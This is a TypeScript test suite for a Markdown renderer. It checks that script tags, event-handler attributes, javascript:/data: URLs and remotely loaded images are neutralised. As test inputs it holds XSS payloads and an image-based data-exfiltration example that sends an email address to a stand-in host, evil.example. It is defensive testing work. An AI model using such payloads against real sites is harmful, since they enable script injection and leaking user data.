import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

/** Every attribute name of every tag in `html` (quoted values skipped). */
function attributeNames(html: string): string[] {
  const names: string[] = [];
  for (const [, inside] of html.matchAll(
    /<[a-z][a-z0-9]*((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi,
  )) {
    for (const [, name] of (inside ?? '').matchAll(/\s+([^\s=>]+)(?:="[^"]*")?/g)) {
      names.push(name!.toLowerCase());
    }
  }
  return names;
}

describe('renderMarkdown', () => {
  it('renders headings, lists, emphasis and links', () => {
    const html = renderMarkdown('# Grace\n\n- **Rust** and _LLVM_\n\n[site](https://example.com)');
    expect(html).toContain('<h1>Grace</h1>');
    expect(html).toContain('<li><strong>Rust</strong> and <em>LLVM</em></li>');
    expect(html).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">site</a>',
    );
  });

  it('escapes a <script> element instead of emitting it', () => {
    const html = renderMarkdown('Hi <script>alert(1)</script>\n\n<script>alert(2)</script>');
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('never emits an element with an event-handler attribute', () => {
    const html = renderMarkdown(
      '<img src=x onerror="alert(1)">\n\n<a href="#" onclick="alert(2)">x</a>\n\n![x" onerror="alert(3)](https://e.com/a.png)',
    );
    // The words may survive as escaped text or inside a quoted value, never as an attribute.
    expect(attributeNames(html).filter((name) => name.startsWith('on'))).toEqual([]);
    expect(html).toContain('>x&quot; onerror=&quot;alert(3)</a>');
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
  });

  it('does not link javascript:, vbscript: or data: URLs', () => {
    const html = renderMarkdown(
      [
        '[a](javascript:alert(1))',
        '[b](JaVaScRiPt:alert(1))',
        '[c](&#106;avascript:alert(1))',
        '[d](vbscript:msgbox(1))',
        '[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
        '<javascript:alert(1)>',
        '![f](javascript:alert(1))',
      ].join('\n\n'),
    );
    expect(html).not.toMatch(/href\s*=\s*"\s*(javascript|vbscript|data):/i);
    expect(html).not.toMatch(/src\s*=\s*"\s*(javascript|vbscript|data):/i);
    expect(html).not.toContain('<a');
  });
});

describe('renderMarkdown — issue 10: a Markdown image is never fetched', () => {
  const LINK = 'target="_blank" rel="noopener noreferrer nofollow"';

  it('renders an image as a link to it, named by its alt text', () => {
    const html = renderMarkdown('![alt](https://x/y.png)');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain(`<a href="https://x/y.png" ${LINK}>alt</a>`);
  });

  it('keeps a query string (the exfiltration channel) only inside a link, never a load', () => {
    const html = renderMarkdown(
      'Profile ![logo](http://evil.example/p.png?q=ada%40example.com "t") and ![](https://x/y.png)',
    );
    expect(html).not.toMatch(/<img|src=/i);
    expect(html).toContain(
      `<a href="http://evil.example/p.png?q=ada%40example.com" ${LINK}>logo</a>`,
    );
    // No alt text: the address itself names the link.
    expect(html).toContain(`<a href="https://x/y.png" ${LINK}>https://x/y.png</a>`);
  });

  it('renders a reference-style image as a link too', () => {
    const html = renderMarkdown('![chart][c]\n\n[c]: https://x/chart.png');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain(`<a href="https://x/chart.png" ${LINK}>chart</a>`);
  });

  it('shows the alt text alone for data:, relative and scheme-relative images', () => {
    const html = renderMarkdown(
      [
        '![pixel](data:image/png;base64,iVBORw0KGgo=)',
        '![local](/favicon.svg)',
        '![relative](//evil.example/x.png)',
        '![script](javascript:alert(1))',
      ].join('\n\n'),
    );
    expect(html).not.toMatch(/<img|<a|src=|href=/i);
    for (const alt of ['pixel', 'local', 'relative', 'script']) expect(html).toContain(alt);
  });

  it('never nests a link inside a link when an image is the text of one', () => {
    const html = renderMarkdown('[![badge](https://x/badge.svg)](https://site.example)');
    expect(html).not.toMatch(/<img/i);
    expect(html.match(/<a /g)).toHaveLength(1);
    expect(html).toContain(`<a href="https://site.example" ${LINK}>badge</a>`);
  });

  it('escapes the alt text of an image', () => {
    const html = renderMarkdown('![<b>x</b> & "y"](https://x/y.png)');
    expect(html).toContain('&lt;b&gt;x&lt;/b&gt; &amp; &quot;y&quot;</a>');
    expect(html).not.toContain('<b>');
  });

  it('loads no image from any prefix of a streaming draft', () => {
    // A draft is rendered after every chunk: each prefix must be as safe as the whole.
    const draft =
      '# Research\n\n- Read ![status](http://127.0.0.1:9/leak.png) daily\n- ![b][r]\n\n[r]: https://x/b.png\n';
    for (let end = 1; end <= draft.length; end += 1) {
      expect(renderMarkdown(draft.slice(0, end))).not.toMatch(/<img/i);
    }
  });
});
